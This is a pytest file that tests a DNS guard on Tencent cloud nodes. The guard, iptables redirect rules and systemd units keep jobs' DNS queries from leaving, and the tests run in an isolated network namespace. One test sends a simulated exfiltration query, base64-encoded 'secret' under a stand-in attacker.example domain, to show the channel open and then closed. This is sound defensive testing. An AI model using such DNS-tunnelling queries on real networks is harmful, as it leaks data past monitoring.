"""The DNS guard of Tencent nodes (issue 23, finding 5: DNS is an open channel where the VPC filters none), as the
image wires it: its units (on Tencent nodes only, before slurmd, which requires the rules) and the rules script with
the guard, run for real: a job's DNS query reaches the VPC's resolver only through the guard, which passes the
cloud's service names and answers the rest NXDOMAIN itself.

In a network namespace of the test's own (tests.ami.test_imds_filter.Namespace: the host's tables are never
touched): a stand-in for the VPC's resolver on 127.0.99.2 (UDP and TCP port 53) records every name it is asked and
answers each with one address; the guard (`python -m trainer dns serve`) listens on 127.0.0.1:5353; the script's
rules redirect port 53. Queries are sent to the resolver's own address as nobody
(65534, a job's user), as the guard's user (65533) and as root, over UDP and TCP.
"""
from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from tests.ami.conftest import AMI, ROOT, require, unit
from tests.ami.test_imds_filter import Namespace

SCRIPT = AMI / "files" / "gpufleet-dns-guard-rules.sh"
RESOLVER = "127.0.99.2"  # on loopback: the tests' loopback guard refuses any other address
NOBODY, GUARD = 65534, 65533
PYTHON = shutil.which("python3", path="/usr/bin:/bin")  # one other users may run, not a shim under /root

# The stand-in resolver: every name asked goes to NAMES (one a line); every answer is A 10.1.2.3.
FAKE_RESOLVER = r"""
import socket, socketserver, struct, sys, threading
names = open(sys.argv[2], "a", buffering=1)
def reply(p):
    at, labels = 12, []
    while p[at]:
        labels.append(p[at + 1:at + 1 + p[at]].decode()); at += 1 + p[at]
    names.write(".".join(labels) + "\n")
    return (p[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + p[12:at + 5] + b"\xc0\x0c"
            + struct.pack("!HHIH", 1, 1, 60, 4) + bytes([10, 1, 2, 3]))
class U(socketserver.BaseRequestHandler):
    def handle(self):
        self.request[1].sendto(reply(self.request[0]), self.client_address)
class T(socketserver.BaseRequestHandler):
    def handle(self):
        n = struct.unpack("!H", self.request.recv(2))[0]; out = reply(self.request.recv(n))
        self.request.sendall(struct.pack("!H", len(out)) + out)
u = socketserver.ThreadingUDPServer((sys.argv[1], 53), U)
t = socketserver.ThreadingTCPServer((sys.argv[1], 53), T)
threading.Thread(target=t.serve_forever, daemon=True).start()
print("ready", flush=True)
u.serve_forever()
"""

# A client: asks ADDRESS:53 for NAME over PROTO; prints the answer's rcode, or "none" when nothing came back.
ASK = r"""
import socket, struct, sys
address, name, proto = sys.argv[1:4]
q = struct.pack("!HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0) + b"".join(
    bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
try:
    if proto == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, (address, 53))
        r = s.recv(4096)
    else:
        s = socket.create_connection((address, 53), timeout=5); s.sendall(struct.pack("!H", len(q)) + q)
        n = struct.unpack("!H", s.recv(2))[0]; r = s.recv(n)
    print(struct.unpack("!H", r[2:4])[0] & 0xF)
except OSError:
    print("none")
"""


@pytest.fixture
def node():
    """A namespace with the stand-in resolver and the guard, before any rule."""
    if os.geteuid() != 0:
        pytest.skip("needs root: a network namespace of its own, iptables in it, and queries as other users")
    for tool in ("ip", "iptables", "setpriv"):
        require(tool)
    if PYTHON is None:
        pytest.skip("needs the system's python3 (/usr/bin/python3): queries are sent as other users")
    ns = Namespace()
    if ns.reason:
        ns.close()
        pytest.skip(f"no network namespace can be made here: {ns.reason}")
    work = Path(tempfile.mkdtemp(prefix="gpufleet-dns-"))
    try:
        assert ns.run([require("ip"), "link", "set", "lo", "up"]).returncode == 0
        names = work / "names"
        names.touch()
        resolver = ns.popen([PYTHON, "-c", FAKE_RESOLVER, RESOLVER, str(names)],
                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        ns.servers.append(resolver)
        assert resolver.stdout.readline().strip() == "ready"
        log = work / "guard.log"
        with log.open("w") as out:  # a file, not a pipe no one reads: the guard logs a line a query
            guard = ns.popen([sys.executable, "-m", "trainer", "dns", "serve", "--cloud", "tencent", "--upstream",
                              RESOLVER], cwd=ROOT, stdout=subprocess.DEVNULL, stderr=out)
        ns.servers.append(guard)
        deadline = time.monotonic() + 60
        while ask(ns, "sts.tencentcloudapi.com", address="127.0.0.1", port=5353) != "0":  # up once it answers
            assert guard.poll() is None and time.monotonic() < deadline, f"the guard never answered: {log.read_text()}"
            time.sleep(0.05)
        names.write_text("")
        yield ns, names
    finally:
        ns.close()
        for f in work.iterdir():
            f.unlink()
        work.rmdir()


def ask(ns: Namespace, name: str, uid: int | None = None, proto: str = "udp", address: str = RESOLVER,
        port: int = 53) -> str:
    """The rcode of the answer to a query for NAME sent to ADDRESS:PORT, as root or as UID; 'none' if none came."""
    as_user = [] if uid is None else [require("setpriv"), "--reuid", str(uid), "--regid", str(uid), "--clear-groups"]
    script = ASK.replace("(address, 53)", f"(address, {port})")
    done = ns.run([*as_user, PYTHON, "-c", script, address, name, proto], cwd="/")
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def apply(ns: Namespace) -> subprocess.CompletedProcess:
    done = ns.run(["bash", str(SCRIPT), "--guard-user", str(GUARD)])
    assert done.returncode == 0, done.stderr
    return done


def asked(names: Path) -> list[str]:
    return names.read_text().split()


@pytest.mark.parametrize("proto", ["udp", "tcp"])
def test_a_jobs_query_reaches_the_resolver_only_for_a_service_name(node, proto):
    """Issue 23, finding 5 (DNS is an open channel), on Tencent, whose VPC has no DNS firewall: before the rules a
    job's exfiltration query reaches the resolver (and so the attacker's name server); after, the guard answers it
    NXDOMAIN and the resolver never sees it, while a service name is still answered through the guard."""
    ns, names = node
    assert ask(ns, "c2VjcmV0.attacker.example", NOBODY, proto) == "0"
    assert asked(names) == ["c2VjcmV0.attacker.example"]  # the open channel
    names.write_text("")
    apply(ns)
    assert ask(ns, "c2VjcmV0.attacker.example", NOBODY, proto) == "3"
    assert ask(ns, "examplebucket-1250000000.cos.ap-shanghai.myqcloud.com", NOBODY, proto) == "0"
    assert asked(names) == ["examplebucket-1250000000.cos.ap-shanghai.myqcloud.com"]


def test_root_and_the_guards_user_are_not_redirected_and_a_second_run_changes_nothing(node):
    ns, names = node
    first = apply(ns)
    listing = ns.run([require("iptables"), "-w", "-t", "nat", "-S"]).stdout
    second = apply(ns)
    assert ns.run([require("iptables"), "-w", "-t", "nat", "-S"]).stdout == listing
    assert first.stdout == second.stdout
    assert [line for line in listing.splitlines() if "GPUFLEET-DNS" in line] == [
        "-N GPUFLEET-DNS",
        "-A OUTPUT -p tcp -m tcp --dport 53 -j GPUFLEET-DNS",
        "-A OUTPUT -p udp -m udp --dport 53 -j GPUFLEET-DNS",
        "-A GPUFLEET-DNS -m owner --uid-owner 0 -j RETURN",
        f"-A GPUFLEET-DNS -m owner --uid-owner {GUARD} -j RETURN",
        "-A GPUFLEET-DNS -p udp -j REDIRECT --to-ports 5353",
        "-A GPUFLEET-DNS -p tcp -j REDIRECT --to-ports 5353"]
    assert ask(ns, "root.attacker.example") == "0"            # root's own queries go where they are sent
    assert ask(ns, "guard.attacker.example", GUARD) == "0"    # and the guard's (its forwarding)
    assert ask(ns, "job.attacker.example", NOBODY) == "3"
    assert asked(names) == ["root.attacker.example", "guard.attacker.example"]


def test_bad_arguments_are_one_line():
    for args, message in ((["--port", "x"], "--port x: expected a port number"),
                          (["--guard-user"], "--guard-user needs a value"),
                          (["extra"], "unexpected extra")):
        done = subprocess.run(["bash", str(SCRIPT), *args], capture_output=True, text=True, timeout=60)
        assert done.returncode == 2 and done.stderr.count("\n") == 1 and message in done.stderr, done.stderr


UNITS = ("gpufleet-dns-rules.service", "gpufleet-dns-guard.service")


@pytest.mark.parametrize("name", UNITS)
@pytest.mark.parametrize("cloud, runs", [("tencent", True), ("aws", False), ("azure", False), (None, False)])
def test_the_units_run_on_tencent_nodes_only(tmp_path, name, cloud, runs):
    """The condition, run for real on a node.json of each cloud: exit 0 runs the unit, 1 to 254 skips it (systemd's
    ExecCondition), never fails it. AWS and Azure filter DNS in the VPC; the controller has no node.json."""
    from trainer.node import node_schema

    u = unit(name)
    assert u["Unit"]["ConditionPathExists"] == node_schema.PATH
    argv = shlex.split(u["Service"]["ExecCondition"])
    assert argv == ["/usr/bin/jq", "-e", '.cloud == "tencent"', node_schema.PATH]
    node_json = tmp_path / "node.json"
    node_json.write_text(json.dumps({"cloud": cloud, "region": "r"} if cloud else {"region": "r"}))
    status = subprocess.run([require("jq"), *argv[1:-1], str(node_json)], capture_output=True, timeout=30).returncode
    assert status == 0 if runs else 1 <= status <= 254


def test_the_rules_are_in_place_before_any_job_and_the_guard_runs_as_the_user_they_exempt():
    from trainer.node import dnsguard
    from trainer.slurm.accounts import TEAM_NAME
    from trainer.slurm.users import PREFIX

    rules, guard = unit("gpufleet-dns-rules.service"), unit("gpufleet-dns-guard.service")
    slurmd = unit("slurmd.service")
    assert rules["Service"]["Type"] == "oneshot" and rules["Service"]["RemainAfterExit"] == "yes"
    for u in (rules, guard):
        assert {"slurmd.service", "docker.service", "gpufleet-node.service"} <= set(u["Unit"]["Before"].split())
        assert "cloud-init.service" in u["Unit"]["After"].split()  # which writes node.json
        assert u["Install"]["WantedBy"] == "multi-user.target"
    # rules that failed keep slurmd, and so every job, off the node; the guard's restarts never restart slurmd
    assert set(slurmd["Unit"]["Requires"].split()) == {"gpufleet-imds.service", "gpufleet-dns-rules.service"}
    assert {"gpufleet-dns-rules.service", "gpufleet-dns-guard.service"} <= set(slurmd["Unit"]["After"].split())
    user = guard["Service"]["User"]
    assert rules["Service"]["ExecStart"].split() == ["/usr/local/sbin/gpufleet-dns-guard-rules", "--guard-user", user,
                                                     "--port", str(dnsguard.PORT)]
    assert user == "gpufleet-dns-guard" and not TEAM_NAME.match(user.removeprefix(PREFIX))  # never a team's user
    argv = guard["Service"]["ExecStart"].split()
    assert argv[:3] == ["/opt/gpufleet/venv/bin/gpufleet-trainer", "dns", "serve"]
    args = dnsguard.parser().parse_args(argv[2:])
    assert (args.cloud, args.port, args.upstream) == ("tencent", dnsguard.PORT, [])
    assert guard["Service"]["Restart"] == "always" and guard["Service"]["NoNewPrivileges"] == "yes"
    assert guard["Service"]["CapabilityBoundingSet"] == ""
